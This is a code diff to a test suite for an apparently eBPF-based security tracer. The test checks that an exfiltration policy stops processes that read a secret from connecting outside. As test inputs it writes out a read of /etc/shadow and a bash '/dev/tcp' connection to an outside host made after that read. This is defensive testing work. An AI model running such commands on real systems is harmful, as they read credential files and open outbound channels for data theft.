@@ -31,13 +31,18 @@ function testMarks(attach: Mechanism): void {
   after(() => recording.close());
 
   it('exfiltration: a process and its children that read a secret cannot connect outside, and nothing else is touched', async () => {
-    await recording.tracer.addPolicy(join(checkout, 'policies/exfiltration.yaml'));
+    // a kprobe cannot override on every kernel: there, the policy only reports
+    const overrides = attach === 'fentry';
+    const text = readFileSync(join(checkout, 'policies/exfiltration.yaml'), 'utf8');
+    const yaml = overrides ? text : text.replace(/matchActions: .*Override.*/, '');
+    await recording.tracer.addPolicy({ yaml });
+    const refused = overrides ? 'Operation not permitted' : 'Connection refused';
     try {
       const events = await recording.eventsDuring(() => {
         assert.equal(connect(OUTSIDE), 'Connection refused');
         assert.equal(connect(OUTSIDE, 'cat /etc/shadow > /dev/null'), 'Connection refused');
         assert.equal(connect('127.0.0.1', READ), 'Connection refused');
-        assert.equal(connect(OUTSIDE, READ), 'Operation not permitted');
+        assert.equal(connect(OUTSIDE, READ), refused);
         const child = `${READ}; exec bash -c ': < /dev/tcp/${OUTSIDE}/9; exit 7'`;
         assert.equal(spawnSync('/bin/bash', ['-c', child]).status, 7);
       });
@@ -48,7 +53,7 @@ function testMarks(attach: Mechanism): void {
         const cause = event.marks?.[0]?.cause;
         assert.deepEqual(
           [event.action, event.marks?.[0]?.mark, cause?.command, cause?.argument, cause?.functionName, cause?.pid],
-          ['override', 'secret-read', 'bash', '/etc/shadow', 'security_file_permission', event.process.pid],
+          [overrides ? 'override' : 'post', 'secret-read', 'bash', '/etc/shadow', 'security_file_permission', event.process.pid],
         );
       }
     } finally {
